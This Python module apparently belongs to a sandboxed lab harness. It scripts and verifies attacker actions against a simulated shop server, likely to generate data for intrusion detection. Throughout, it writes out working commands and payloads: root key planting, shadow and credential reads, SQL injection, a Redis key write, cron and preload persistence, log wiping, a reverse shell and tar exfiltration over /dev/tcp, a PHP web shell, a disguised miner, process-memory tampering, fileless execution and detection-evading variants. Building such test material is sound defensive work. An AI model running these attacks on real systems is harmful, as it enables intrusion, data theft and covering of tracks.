"""The misuses: each is one act of an attacker who has a login or a fault of the application, and is checked for its
effect. A misuse without effect raises NoEffectError and its day is not kept.
"""

import io
import socket
import subprocess
import tarfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from random import Random

from tasks import answers, password_login
from world import DayError, World, wait_for

WAIT_SECONDS = 60.0


class NoEffectError(DayError):
    """The misuse did not do what its label would say."""


@dataclass(frozen=True)
class Misuse:
    """A misuse. `act` does it and gives the sentence that says by what its effect was seen.

    `arguments_only` is the plan: programs and calls of normal work, with other arguments. `hour` is when it begins.
    """

    what: str
    act: Callable[[World, Random], str]
    arguments_only: bool
    after_effects: str = ""


def expect(holds: bool, what: str) -> None:
    """Raises NoEffectError where the effect is not there."""
    if not holds:
        raise NoEffectError(f"no effect: {what}")


def eventually(holds: Callable[[], bool], what: str) -> None:
    """Waits for the effect. Raises NoEffectError when it does not come."""
    try:
        wait_for(holds, WAIT_SECONDS, what)
    except NoEffectError:
        raise
    except DayError:
        raise NoEffectError(f"no effect: {what}") from None


def text_of(world: World, path: str) -> str:
    """Read a file of the host; a missing file is an empty text."""
    target = world.path(path)
    return target.read_text(errors="replace") if target.is_file() else ""


def attacker_key(world: World) -> str:
    """The attacker's public key."""
    return (world.keys / "attacker.pub").read_text().strip()


def ops(world: World, command: str) -> str:
    """The attacker uses the administrator's login."""
    return world.ssh("ops", command, source=world.attacker)


def deploy(world: World, command: str) -> str:
    """The attacker uses the developer's login."""
    return world.ssh("deploy", command, source=world.attacker)


def root_by_key(world: World) -> bool:
    """Whether the attacker's own key opens root's login."""
    try:
        return "uid=0(root)" in world.ssh("root", "id", key="attacker", source=world.attacker)
    except DayError:
        return False


def authkey(world: World, random: Random) -> str:
    ops(world, f"echo '{attacker_key(world)}' | sudo tee -a /root/.ssh/authorized_keys >/dev/null")
    expect(root_by_key(world), "root's login by the attacker's key")
    return "the attacker's key logs in as root"


def shadow(world: World, random: Random) -> str:
    out = ops(world, "df -h /; sudo cat /etc/shadow")
    expect("guest:$y$" in out, "the password hashes")
    return "the output holds the password hash of guest"


def secrets(world: World, random: Random) -> str:
    out = ops(world, "ls -la /srv/app/public; sudo cat /srv/app/config/secrets.ini")
    expect("shop-password" in out, "the secret")
    return "the output holds the password of the database"


def traversal(world: World, random: Random) -> str:
    world.http("/download.php?f=report-1.txt", source=world.attacker)
    out = world.http("/download.php?f=../config/secrets.ini", source=world.attacker)
    passwd = world.http("/download.php?f=../../../etc/passwd", source=world.attacker)
    expect("shop-password" in out and "root:x:0:0" in passwd, "the files outside of the folder")
    return "the answers hold the password of the database and /etc/passwd"


def setuid(world: World, random: Random) -> str:
    ops(world, "sudo cp /bin/bash /var/tmp/.cache && sudo chmod 4755 /var/tmp/.cache")
    out = world.inside(
        ["setpriv", "--reuid", "deploy", "--regid", "deploy", "--clear-groups", "/var/tmp/.cache", "-p", "-c", "id"]
    )
    expect("euid=0(root)" in out, f"the set-user-id shell: {out}")
    return "the copy of bash gives a user without rights euid 0"


def cronjob(world: World, random: Random) -> str:
    world.job_marks.append("/etc/cron.d/backup-check")
    line = "* * * * * root cat /etc/shadow > /var/tmp/.s; chmod 644 /var/tmp/.s"
    ops(world, f"echo '{line}' | sudo tee /etc/cron.d/backup-check >/dev/null")
    eventually(lambda: "guest:$y$" in text_of(world, "/var/tmp/.s"), "the run of the planted job")
    return "the planted job ran and left a copy of the password hashes that everyone can read"


def trojan(world: World, random: Random) -> str:
    world.job_marks.append("/srv/app/jobs/stock.sh")
    query = "psql -q -A -t -d shop -c 'SELECT card FROM customers'"
    deploy(world, f'echo "{query} | cat >> /srv/app/files/notes.txt" >> /srv/app/jobs/stock.sh')
    eventually(lambda: "card-" in text_of(world, "/srv/app/files/notes.txt"), "the run of the changed job")
    return "the changed job ran and wrote the customers' cards to a file that the web server offers"


def preload(world: World, random: Random) -> str:
    ops(
        world,
        "sudo cp /usr/lib/x86_64-linux-gnu/libutil.so.1 /usr/local/lib/libhook.so; "
        "echo /usr/local/lib/libhook.so | sudo tee /etc/ld.so.preload >/dev/null",
    )
    out = ops(world, "cat /proc/self/maps")
    expect("/usr/local/lib/libhook.so" in out, "the library in a program that started later")
    return "a program that started later has the planted library in its memory"


def logwipe(world: World, random: Random) -> str:
    ops(world, "sudo truncate -s 0 /var/log/auth.log; sudo bash -c ': > /var/log/nginx/access.log'")
    expect("Accepted publickey for root" not in text_of(world, "/var/log/auth.log"), "the wiped log")
    expect(world.path("/var/log/nginx/access.log").stat().st_size < 3000, "the wiped access log")
    return "the authentication log and the access log lost their earlier lines"


def port(world: World, random: Random) -> str:
    ops(world, "sudo bash -c 'nohup python3 -m http.server 4444 --bind 127.0.0.1 --directory /etc >/dev/null 2>&1 &'")
    eventually(lambda: answers(4444), "the port")
    with socket.create_connection(("127.0.0.1", 4444), 30, (world.attacker, 0)) as connection:
        connection.sendall(b"GET /shadow HTTP/1.0\r\n\r\n")
        body = b"".join(iter(lambda: connection.recv(65536), b""))
    expect(b"guest:$y$" in body, "the file by the port")
    return "port 4444 gives away /etc/shadow"


def sqldump(world: World, random: Random) -> str:
    deploy(world, "pg_dump -d shop > /srv/app/files/report-0.txt")
    expect("card-" in text_of(world, "/srv/app/files/report-0.txt"), "the dump")
    body = world.http("/download.php?f=report-0.txt", source=world.attacker)
    expect("card-" in body, "the dump by the web server")
    return "the web server gives away the dump with the cards of all customers"


def sqli(world: World, random: Random) -> str:
    query = world.quote("zzz%' UNION SELECT id, name || ' ' || card FROM customers -- ")
    body = world.http(f"/search.php?q={query}", source=world.attacker)
    expect(body.count("card-") > 100, "the rows of the customers")
    return "the answer holds the cards of the customers"


def redis_key(world: World, random: Random) -> str:
    answers_ = world.redis(
        [
            ["SET", "crackit", f"\n\n{attacker_key(world)}\n\n"],
            ["CONFIG", "SET", "dir", "/root/.ssh"],
            ["CONFIG", "SET", "dbfilename", "authorized_keys"],
            ["SAVE"],
        ],
        world.attacker,
    )
    expect(answers_ == ["+OK"] * 4, f"the answers of redis were {answers_}")
    expect("attacker@client" in text_of(world, "/root/.ssh/authorized_keys"), "the key in the file")
    expect(root_by_key(world), "root's login by the key that redis wrote")
    return "redis wrote the key, and it logs in as root"


def rootuser(world: World, random: Random) -> str:
    ops(world, "echo 'sys2:x:0:0::/root:/bin/bash' | sudo tee -a /etc/passwd >/dev/null")
    expect("uid=0(root)" in world.inside(["id", "sys2"]), "the second root")
    return "the system knows a second user of id 0"


def sudorule(world: World, random: Random) -> str:
    ops(world, "echo 'guest ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/guest >/dev/null")
    done = password_login(world, "guest", "summer", "sudo -n id", world.attacker)
    expect("uid=0(root)" in done.stdout, "the rule of sudo")
    return "guest becomes root without a password"


def history(world: World, random: Random) -> str:
    ops(world, "rm -f /home/ops/.bash_history; ln -s /dev/null /home/ops/.bash_history")
    target = world.path("/home/ops/.bash_history")
    expect(target.is_symlink() and str(target.readlink()) == "/dev/null", "the link")
    return "the history of the shell goes to /dev/null"


def webconf(world: World, random: Random) -> str:
    change = "s#location / {#location /x/ { alias /etc/; } location / {#"
    ops(world, f"sudo sed -i '{change}' /etc/nginx/nginx.conf; sudo nginx -t && sudo nginx -s reload")
    eventually(lambda: "root:x:0:0" in world.http("/x/passwd", source=world.attacker), "the new location")
    return "the web server gives away /etc/passwd"


def environment(world: World, random: Random) -> str:
    out = ops(world, "sudo bash -c 'cat /proc/[0-9]*/environ' | tr '\\0' '\\n' | sort | uniq -c")
    expect("LOGNAME=postgres" in out and "LOGNAME=www-data" in out, "the environments of the services")
    return "the output holds the environments of the services"


def pivot(world: World, random: Random) -> str:
    words = world.ssh_arguments("deploy", source=world.attacker, options=["-N", "-L", "16379:127.0.0.1:6379"])
    with subprocess.Popen(
        ["chroot", str(world.scratch / "client"), *words],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    ) as client:
        try:
            eventually(lambda: answers(16379), "the tunnel")
            with socket.create_connection(("127.0.0.1", 16379), 30) as connection:
                connection.sendall(b"KEYS *\r\n")
                answer = connection.recv(65536).decode("utf-8", "replace")
        finally:
            time.sleep(0.2)
            client.terminate()
    expect(answer.startswith("*") and "views" in answer, "the keys of the cache")
    return "the tunnel answered with the keys of the cache"


def packed(world: World, random: Random) -> str:
    ops(world, "sudo tar czf /srv/app/files/report-7.txt -C / etc/shadow etc/ssh root/.ssh 2>/dev/null")
    body = world.path("/srv/app/files/report-7.txt").read_bytes()
    with tarfile.open(fileobj=io.BytesIO(body)) as archive:
        names = archive.getnames()
    expect("etc/shadow" in names and "etc/ssh/ssh_host_ed25519_key" in names, "the packed secrets")
    expect(len(world.http("/download.php?f=report-7.txt", source=world.attacker)) > 100, "the file by the web server")
    return "the packed keys and hashes are where the web server gives them away"


class Collector:
    """A listener of the attacker, outside of the recording. Owns its socket; keeps what it was sent."""

    def __init__(self, number: int, reply: bytes = b"") -> None:
        self.received = b""
        self.reply = reply
        self.listener = socket.create_server(("127.0.0.1", number))
        threading.Thread(target=self.collect, daemon=True).start()

    def collect(self) -> None:
        while True:
            connection, _ = self.listener.accept()
            with connection:
                if self.reply:
                    connection.sendall(self.reply)
                while piece := connection.recv(65536):
                    self.received += piece


def revshell(world: World, random: Random) -> str:
    collector = Collector(4445, b"id\nuname -a\ncat /srv/app/config/app.ini\nls -la /home\nexit\n")
    command = world.quote("localhost; bash -i >& /dev/tcp/127.0.0.1/4445 0>&1")
    world.http(f"/cgi/lookup.sh?host={command}", source=world.attacker)
    eventually(lambda: b"uid=33(www-data)" in collector.received, "the shell")
    return "the attacker's listener got the output of id from the shell"


def webshell(world: World, random: Random) -> str:
    world.upload("logo.php", b"<?php system($_GET['c']);\n", world.attacker)
    out = ""
    for command in ("id", "ls -la /srv/app", "cat /etc/passwd", "ps aux"):
        out += world.http(f"/uploads/logo.php?c={world.quote(command)}", source=world.attacker)
    expect("uid=33(www-data)" in out and "root:x:0:0" in out, "the web shell")
    # It includes no library of the application, so its requests are in the log of PHP alone.
    return "the uploaded page ran id and showed /etc/passwd"


def cmdinj(world: World, random: Random) -> str:
    command = world.quote("reports >/dev/null; id; cat /etc/passwd; uname -a; find / -perm -4000 2>/dev/null; true")
    out = world.http(f"/archive.php?dir={command}", source=world.attacker)
    lookup = world.http(f"/cgi/lookup.sh?host={world.quote('localhost; id; cat /etc/passwd')}", source=world.attacker)
    expect("uid=33(www-data)" in lookup and "root:x:0:0" in out + lookup, "the injected commands")
    return "the answers hold the output of id and /etc/passwd"


MINER = """
import hashlib, os, socket, threading, time
def work(number):
    os.sched_setaffinity(0, os.sched_getaffinity(0))
    end = time.time() + 2.5
    n = number << 32
    while time.time() < end:
        n += 1
        if hashlib.sha256(b"%d" % n).digest()[:2] == b"\\0\\0":
            with socket.create_connection(("127.0.0.1", 3333)) as pool:
                pool.sendall(b"share %d\\n" % n)
            time.sleep(0.1)
os.nice(10)
threads = [threading.Thread(target=work, args=(i,)) for i in range(2)]
for thread in threads: thread.start()
for thread in threads: thread.join()
"""


def miner(world: World, random: Random) -> str:
    collector = Collector(3333)
    world.copy_to_host("deploy", "kworker", MINER.encode(), "/tmp/.kworker", world.attacker)
    deploy(world, "nohup python3 /tmp/.kworker >/dev/null 2>&1 & sleep 0.1")
    eventually(lambda: collector.received.count(b"share") >= 2, "the shares")
    return "the pool got shares"


INJECT = """
import ctypes, re, sys
pid = int(sys.argv[1])
libc = ctypes.CDLL(None)
print("attach", libc.ptrace(16, pid, 0, 0))
class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
def move(call, here, there, size):
    mine, theirs = Vec(ctypes.addressof(here), size), Vec(there, size)
    return call(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
old, new = b"price=19.90;by=shop", b"price=00.01;by=evil"
done = 0
for line in open(f"/proc/{pid}/maps"):
    found = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
    if not found: continue
    begin, end = (int(x, 16) for x in found.groups())
    if end - begin > 1 << 27: continue
    page = ctypes.create_string_buffer(end - begin)
    if move(libc.process_vm_readv, page, begin, end - begin) <= 0: continue
    at = page.raw.find(old)
    while at >= 0:
        done += move(libc.process_vm_writev, ctypes.create_string_buffer(new), begin + at, len(new)) > 0
        at = page.raw.find(old, at + 1)
print("written", done)
"""


def inject(world: World, random: Random) -> str:
    world.redis([["SET", "offer", "price=19.90;by=shop"]])
    world.copy_to_host("ops", "tool.py", INJECT.encode(), "/tmp/tool.py", world.attacker)
    out = ops(world, "sudo python3 /tmp/tool.py $(pgrep -x redis-server)")
    value = world.redis([["GET", "offer"]])[0]
    expect(value == "price=00.01;by=evil", f"the value in redis' memory: {value}; {out}")
    return "redis answers with a value that nobody has set"


def exfil(world: World, random: Random) -> str:
    collector = Collector(4446)
    pack = "tar czf - -C / srv/app/lib srv/app/files home/deploy 2>/dev/null"
    deploy(world, f"{pack} | bash -c 'cat > /dev/tcp/127.0.0.1/4446'")
    eventually(lambda: len(collector.received) > 1000, "the packed files")
    time.sleep(0.3)
    with tarfile.open(fileobj=io.BytesIO(collector.received)) as archive:
        expect("srv/app/lib/app.php" in archive.getnames(), "the files in the archive")
    return "the attacker's listener got an archive of the application"


def brute(world: World, random: Random) -> str:
    wrong = ["123456", "password", "guest", "welcome", "letmein", "winter", "spring", "qwerty"]
    for start in range(0, len(wrong), 4):
        threads = [
            threading.Thread(target=password_login, args=(world, "guest", word, "id", world.attacker))
            for word in wrong[start : start + 4]
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    done = password_login(world, "guest", "summer", "id; uname -a; sudo -n -l; ls -la /home /root", world.attacker)
    expect("guest" in done.stdout, "the login by the guessed password")
    return "the ninth password opened the login of guest"


FILELESS = """
import os
body = open("/usr/bin/id", "rb").read()
memory = os.memfd_create("kworker")
os.write(memory, body)
os.execve(memory, ["[kworker/0:1]"], {})
"""


def fileless(world: World, random: Random) -> str:
    out = deploy(world, f"python3 -c '{FILELESS}'")
    expect("uid=" in out, "the program in memory")
    return "the program that was only in memory printed its ids"


def copyprogram(world: World, random: Random) -> str:
    query = world.quote("x'; COPY (SELECT 1) TO PROGRAM 'id > /var/tmp/.p; cat /etc/passwd >> /var/tmp/.p'; -- ")
    world.http(f"/search.php?q={query}", source=world.attacker)
    out = text_of(world, "/var/tmp/.p")
    expect("postgres" in out and "root:x:0:0" in out, "the program that the database ran")
    return "the database ran a shell that wrote the output of id"


def stealthdump(world: World, random: Random) -> str:
    deploy(
        world,
        "pg_dump -d shop -t products > /srv/app/files/products.sql && rm /srv/app/files/products.sql; "
        "pg_dump -d shop -t customers > /srv/app/files/products.sql; cat /srv/app/files/products.sql | wc -c",
    )
    expect("card-" in text_of(world, "/srv/app/files/products.sql"), "the dump")
    return "the cards are in a file of an ordinary name"


def slowkey(world: World, random: Random) -> str:
    piece = attacker_key(world)
    middle = len(piece) // 2
    for number, text in enumerate((piece[:middle], piece[middle:])):
        ops(world, f"df -h; echo 'k{number} {text}' | sudo tee -a /etc/motd >/dev/null")
        time.sleep(1.0)
    # Others append to the file as well, so each piece has a mark of its own.
    joined = '"$(sed -n "s/^k0 //p" /etc/motd)$(sed -n "s/^k1 //p" /etc/motd)"'
    ops(world, f"echo {joined} | sudo tee -a /root/.ssh/authorized_keys >/dev/null; uptime")
    expect(root_by_key(world), "root's login by the key that came in pieces")
    return "the key that came in pieces logs in as root"


MISUSES: dict[str, Misuse] = {
    "authkey": Misuse("adds a key to /root/.ssh/authorized_keys by sudo tee", authkey, True),
    "shadow": Misuse("reads /etc/shadow by sudo cat", shadow, True),
    "secrets": Misuse("reads the secrets of the application by sudo cat", secrets, True),
    "traversal": Misuse("reads files outside of the offered folder through download.php", traversal, True),
    "setuid": Misuse("copies bash and sets its set-user-id bit", setuid, True),
    "cronjob": Misuse("plants a job in /etc/cron.d", cronjob, True),
    "trojan": Misuse("adds a line to a job of the application", trojan, True),
    "preload": Misuse(
        "plants a library in /etc/ld.so.preload",
        preload,
        True,
        "each program that starts later opens /etc/ld.so.preload and the library: no misuse of its own",
    ),
    "logwipe": Misuse("empties the authentication log and the access log", logwipe, True),
    "port": Misuse("serves /etc on port 4444", port, True),
    "sqldump": Misuse("dumps the database to a file that the web server offers", sqldump, True),
    "sqli": Misuse("reads the customers' cards by SQL injection in search.php", sqli, True),
    "redis-key": Misuse(
        "has redis write a key to /root/.ssh/authorized_keys",
        redis_key,
        True,
        "later saves of redis go to /root/.ssh: the forks that write them are no misuse of their own",
    ),
    "rootuser": Misuse("adds a second user of id 0 to /etc/passwd", rootuser, True),
    "sudorule": Misuse("lets guest use sudo without a password", sudorule, True),
    "history": Misuse("replaces the history of the shell by a link to /dev/null", history, True),
    "webconf": Misuse("has the web server offer /etc and reloads it", webconf, True),
    "environment": Misuse("reads the environments of all processes", environment, True),
    "pivot": Misuse("reaches the cache through a tunnel of ssh", pivot, True),
    "packed": Misuse("packs keys and hashes into a file that the web server offers", packed, True),
    "revshell": Misuse("opens a reverse shell by command injection in a CGI program", revshell, False),
    "webshell": Misuse("uploads a PHP page and runs commands through it", webshell, False),
    "cmdinj": Misuse("runs commands by injection in archive.php and a CGI program", cmdinj, False),
    "miner": Misuse("runs a program that computes hashes and sends shares to a pool", miner, False),
    "inject": Misuse("changes the memory of redis by process_vm_writev; ptrace is tried first", inject, False),
    "exfil": Misuse("sends an archive of the application to a socket", exfil, False),
    "brute": Misuse("guesses the password of guest and logs in", brute, False),
    "fileless": Misuse("runs a program from memory by memfd_create", fileless, False),
    "copyprogram": Misuse("has the database run a shell by COPY TO PROGRAM through SQL injection", copyprogram, False),
}

# What an attacker who knows the normal days would do: kept apart, not counted among the misuses.
MIMICRY: dict[str, Misuse] = {
    "stealthdump": Misuse("dumps the customers into a file whose name and folder normal work uses", stealthdump, True),
    "slowkey": Misuse("brings a key in pieces through a file that normal work appends to", slowkey, True),
}
